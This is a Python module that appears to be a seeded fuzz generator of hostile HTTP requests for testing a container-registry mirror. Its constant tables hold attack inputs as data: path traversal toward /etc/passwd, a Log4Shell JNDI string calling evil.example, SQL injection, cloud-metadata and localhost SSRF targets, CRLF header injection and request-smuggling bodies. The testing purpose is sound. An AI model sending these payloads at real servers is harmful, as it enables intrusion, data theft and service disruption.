"""Requests that mean no good, from a seed: paths, names, ns, digests, ranges, headers, noise."""

from __future__ import annotations

import random
from collections.abc import Sequence
from dataclasses import dataclass
from urllib.parse import quote

KNOWN_NS = ("k8s.gcr.io", "registry.k8s.io", "K8S.GCR.IO", "docker.io", "index.docker.io")
STRANGE_NS = (
    "evil.example", "127.0.0.1:22", "169.254.169.254", "localhost:5001", "[::1]:80", "",
    "k8s.gcr.io@evil.example", "k8s.gcr.io\x00", "k8s.gcr.io/..", "k8s.gcr.io\r\nX: y",
    "http://evil.example", "..", "k8s.gcr.io.", "a" * 3000, "\u2025", "*.gcr.io", "k8s.gcr.io:443",
)  # fmt: skip
STRANGE_PARTS = (
    "..", ".", "", "%2e%2e", "%2E%2E%2f", "..%2f..%2fetc%2fpasswd", "%00", "a%00b", "a%2Fb", "%",
    "%zz", "%ff%fe", "A", "UPPER", "-a", "a-", "a..b", "a__b", "a___b", "_", "~", "a:b", "a@b", "a;b",
    "a\\b", "..\\..", "'", '"', "<script>", "${jndi:ldap://evil.example/x}", "' OR 1=1--", "v2",
    "manifests", "blobs", "tags", "uploads", "_catalog", "referrers", "list", "partial", "catalog.db",
    "VERSION", "admin-token", "x" * 300, "y" * 5000, "\u00e4", "\ud55c\uae00", "{}", "|", "^", "`",
    "evil.example", "localhost:5001", "k8s.gcr.io", "*",
)  # fmt: skip
METHODS = (
    "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "MKCOL", "LINK", "PURGE",
    "M-SEARCH", "REPORT",
)  # fmt: skip
RANGES = (
    "bytes=0-", "bytes=0-0", "bytes=-1", "bytes=-0", "bytes=5-2", "bytes=999999999999-", "bytes=0-1,3-4",
    "bytes=", "bytes", "bytes=a-b", "bytes=--1", "bytes=0-99999999999999999999999999", "items=0-1",
    "bytes=1-1,", "bytes=\u0661-\u0662", "bytes = 0 - 5", "bytes=0-0\x0b", "=", "bytes=1e3-", "bytes=0x1-",
    "bytes=" + "0-0," * 1500, "bytes=" + "9" * 4000 + "-",
)  # fmt: skip
QUERIES = (
    "n=0", "n=-1", "n=99999999999999999999", "n=abc", "n=1&last=zzz", "last=" + "%2e" * 50, "n=1&n=2",
    "artifactType=a%2Fb", "artifactType=" + "a" * 2000, "mount=sha256%3Aaa&from=x", "digest=..", "&&&",
    "=", "ns", "%00=%00", "a=" + "b" * 4000, ";", "n=1;last=2", "x=" + "&x=" * 500,
)  # fmt: skip
HEADERS = (
    ("Accept", "*/*"), ("Accept", "application/vnd.oci.image.index.v1+json, text/html;q=0.5"),
    ("Accept", "a/b," * 1500), ("Accept", "\u0001"), ("Accept-Encoding", "gzip, br, zstd"),
    ("Authorization", "Basic !!!"), ("Authorization", "Bearer " + "t" * 3000), ("Authorization", ""),
    ("Cookie", "a=b; " * 300), ("If-None-Match", '"x"'), ("If-Range", "x"), ("If-Modified-Since", "never"),
    ("X-Forwarded-For", "1.2.3.4, " * 200), ("X-Forwarded-Host", "evil.example"), ("Forwarded", "host=e"),
    ("User-Agent", "containerd/2.0"), ("User-Agent", "z" * 7000), ("User-Agent", "\u00ff\u00fe"),
    ("Referer", "http://evil.example/"), ("Origin", "null"), ("TE", "trailers"), ("Via", "1.1 a"),
    ("Content-Type", "application/json"), ("Max-Forwards", "0"), ("Proxy-Authorization", "Basic YTpi"),
    ("X-Original-URL", "/metrics"), ("X-HTTP-Method-Override", "DELETE"), ("Content-Length", "0"),
    ("Docker-Distribution-Api-Version", "x" * 500), ("Date", "yesterday"), ("Host2", "evil.example"),
)  # fmt: skip
HOSTS = (
    "evil.example", "k8s.gcr.io", "127.0.0.1:5001", "a@b", "[::1", "", "h" * 5000, "a b", "\u00e4", "../..",
)  # fmt: skip
SOLO_HEADERS = (
    ("Upgrade", "websocket"), ("Upgrade", "h2c"), ("Expect", "100-continue"), ("Expect", "the worst"),
    ("Connection", "close"), ("Connection", "upgrade, HTTP2-Settings"), ("Transfer-Encoding", "chunked"),
    ("Transfer-Encoding", "gzip, chunked"), ("Content-Length", "5"), ("Content-Length", "99999999999"),
    ("Content-Encoding", "gzip"), ("Connection", "Content-Length"),
)  # fmt: skip
NOISE: tuple[bytes, ...] = (
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", b"SSH-2.0-x\r\n", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    b"GET\r\n\r\n", b"GET /\r\n\r\n", b"GET  /v2/ HTTP/1.1\r\n\r\n", b"GET /v2/ HTTP/9.9\r\n\r\n",
    b"GET /v2/ HTTP/1.1\nHost: m\n\n", b"GET /v2/ HTTP/1.1\r\nHost m\r\n\r\n", b"\r\n" * 500,
    b"GET /v2/ HTTP/1.1\r\nHost : m\r\n\r\n", b"GET /v2/ HTTP/1.1\r\n Host: m\r\n\r\n",
    b"GET /v2/ HTTP/1.1\r\nHost: m\r\nA: b\r\n c\r\n\r\n", b"GET /v2/ HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
    b"POST / HTTP/1.1\r\nHost: m\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello",
    b"POST / HTTP/1.1\r\nHost: m\r\nContent-Length: -5\r\n\r\nhello",
    b"POST / HTTP/1.1\r\nHost: m\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /x",
    b"POST / HTTP/1.1\r\nHost: m\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n", b"\x00" * 100, b"\xff" * 3000,
    b"POST / HTTP/1.1\r\nHost: m\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\n",
    b"GET /" + b"a" * 30_000 + b" HTTP/1.1\r\nHost: m\r\n\r\n", b"G" * 30_000,
    b"GET /v2/ HTTP/1.1\r\nHost: m\r\n" + b"A: b\r\n" * 500 + b"\r\n",
    b"GET /v2/ HTTP/1.1\r\nHost: m\r\n" + b"A: " + b"b" * 30_000 + b"\r\n\r\n",
    b"GET /v2/\x00 HTTP/1.1\r\nHost: m\r\n\r\n", b"GET /v2/ HTTP/1.1\r\nA\x00: b\r\n\r\n",
    b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example\r\n\r\n", b"get /v2/ HTTP/1.1\r\n\r\n",
    b"GET http://evil.example/v2/ HTTP/1.1\r\nHost: m\r\n\r\n", b"GET * HTTP/1.1\r\nHost: m\r\n\r\n",
    b"OPTIONS * HTTP/1.1\r\nHost: m\r\n\r\n", b"GET //evil.example/v2/ HTTP/1.1\r\nHost: m\r\n\r\n",
    b"GET /v2/?\xff\xfe=\x01 HTTP/1.1\r\nHost: m\r\n\r\n", b"GET evil HTTP/1.1\r\nHost: m\r\n\r\n",
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class Hostile:
    """One request. `alone`: nothing may follow it on its connection, and nothing may come back.

    `cut`: the client is gone after it.
    """

    data: bytes
    method: str
    alone: bool = False
    cut: bool = False


class Generator:
    """Endless and repeatable. `names` and `digests` are of things that the mirror has."""

    def __init__(self, seed: str, names: Sequence[str], digests: Sequence[str]) -> None:
        self._chance = random.Random(seed)
        self._names = names
        self._digests = digests

    def next(self) -> Hostile:
        """Make one more."""
        dice = self._chance.random()
        if dice < 0.04:
            return self._noise()
        method = (
            self._chance.choice(METHODS) if dice < 0.1 else self._chance.choice(("GET", "HEAD"))
        )
        headers = [self._chance.choice(HEADERS) for _ in range(self._chance.randrange(4))]
        if self._chance.random() < 0.3:
            headers.append(("Range", self._chance.choice(RANGES)))
        host = self._chance.choice(HOSTS) if self._chance.random() < 0.1 else "mirror.lan:5000"
        alone = self._chance.random() < 0.03
        if alone:
            headers.append(self._chance.choice(SOLO_HEADERS))
        head = f"{method} {self._target()} HTTP/1.1\r\nHost: {host}\r\n"
        head += "".join(f"{name}: {value}\r\n" for name, value in headers) + "\r\n"
        data = head.encode("utf-8", "surrogatepass")
        if alone and self._chance.random() < 0.3:
            return Hostile(data[: self._chance.randrange(len(data))], method, alone=True, cut=True)
        # What the parser may refuse ends its connection, which nobody else should suffer from.
        odd = alone or any(byte < 32 and byte not in b"\r\n\t" for byte in data)
        return Hostile(data, method, alone=odd or _may_be_refused(head, headers))

    def _noise(self) -> Hostile:
        dice = self._chance.random()
        if dice < 0.2:
            return Hostile(
                self._chance.randbytes(self._chance.randrange(1, 2000)), "GET", True, True
            )
        data = bytearray(self._chance.choice(NOISE))
        if dice < 0.5:
            for _ in range(self._chance.randrange(1, 4)):
                data[self._chance.randrange(len(data))] = self._chance.randrange(256)
        silent = not data.strip()  # blank lines before a request are nothing to answer
        return Hostile(bytes(data), "GET", True, silent or self._chance.random() < 0.3)

    def _target(self) -> str:
        kind = self._chance.choice(("manifests", "blobs", "referrers", "tags"))
        name, reference = self._name(), self._reference(kind)
        ns, registry = self._ns(), self._chance.choice((*KNOWN_NS[:2], "evil.example", ".."))
        path = f"{name}/{kind}/{reference}"
        shape = self._chance.choice(
            (f"/v2/{path}", f"/v2/{path}", f"/v2/{registry}/{path}", f"/{registry}/v2/{path}",
             f"/v2/{registry}/v2/{path}", f"/{path}", f"//v2/{path}", f"/v2//{path}", f"/{name}",
             f"/v2/{name}")
        )  # fmt: skip
        queries = [f"ns={ns}"] if self._chance.random() < 0.7 else []
        if self._chance.random() < 0.2:
            queries.append(self._chance.choice(QUERIES))
        return shape + ("?" + "&".join(queries) if queries else "")

    def _ns(self) -> str:
        if self._chance.random() < 0.6:
            return self._chance.choice(KNOWN_NS)
        return quote(self._chance.choice(STRANGE_NS), safe="")

    def _name(self) -> str:
        dice = self._chance.random()
        if dice < 0.4:
            return self._chance.choice(self._names)
        if dice < 0.5:
            return f"unknown/n{self._chance.randrange(300)}"
        parts = [self._chance.choice(("a", "b1", "library", *STRANGE_PARTS)) for _ in range(3)]
        return "/".join(parts[: self._chance.randrange(1, 4)])

    def _reference(self, kind: str) -> str:
        dice = self._chance.random()
        if kind == "tags" and dice < 0.8:
            return "list"
        if dice < 0.3:
            return self._chance.choice(self._digests)
        if dice < 0.4:
            return "sha256:" + f"{self._chance.randrange(200):064x}"
        if dice < 0.5:
            return self._chance.choice(
                ("1", "latest", "v1.0", "x" * 128, "x" * 129, "-1", "_", "a+b")
            )
        hexes = "0123456789abcdef"
        wrong = "".join(
            self._chance.choices(hexes, k=self._chance.choice((0, 1, 63, 65, 128, 2000)))
        )
        odd = (
            "md5",
            "sha1",
            "SHA256",
            "sha256",
            "sha512",
            "",
            "..",
            "sha256:..%2F",
            "%73ha256",
            "sha256%3A",
        )
        return self._chance.choice(
            (f"{self._chance.choice(odd)}:{wrong}", self._chance.choice(STRANGE_PARTS))
        )


def _may_be_refused(head: str, headers: Sequence[tuple[str, str]]) -> bool:
    line, *_ = head.split("\r\n", 1)
    names = [name for name, _ in headers]
    broken = line.count(" ") > 2 or not line.isascii() or len(set(names)) < len(names)
    return broken or len(head) > 15_000
